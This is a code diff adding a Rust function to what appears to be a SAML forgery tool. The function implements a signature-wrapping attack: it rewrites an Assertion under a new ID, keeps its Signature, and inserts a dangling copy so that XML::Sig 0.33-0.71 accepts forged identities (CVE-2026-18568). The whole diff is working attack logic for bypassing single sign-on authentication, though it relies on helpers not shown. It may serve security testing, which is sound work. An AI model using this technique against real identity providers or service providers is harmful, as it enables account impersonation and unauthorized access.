@@ -386,6 +386,24 @@ pub fn detached(f: &Forge) -> Result<Forged, Skip> {
     forged(p.splice_unsigned_response(edits), swap)
 }
 
+/// The Assertion forged in place under a new ID, its Signature kept, and a copy of that
+/// Signature after the Response's Issuer: two Signatures whose References name an ID no
+/// element carries any more. XML::Sig 0.33-0.71 skips such a Signature when there is another,
+/// and returns true when it has skipped them all (CVE-2026-18568).
+pub fn dangling_references(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let copy = p.movable_signature(sig)?;
+    let (mut edits, swap) =
+        crate::identity::rewrite_edits(&doc, p.assertion.range(), &crate::identity::forger(&doc));
+    let id = attr_value(p.assertion, "ID")
+        .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
+    edits.push((id, crate::family::evil_id(p.assertion_id())));
+    edits.push(crate::bytes::insert(p.after_response_header(), copy));
+    forged(p.splice_unsigned_response(edits), swap)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
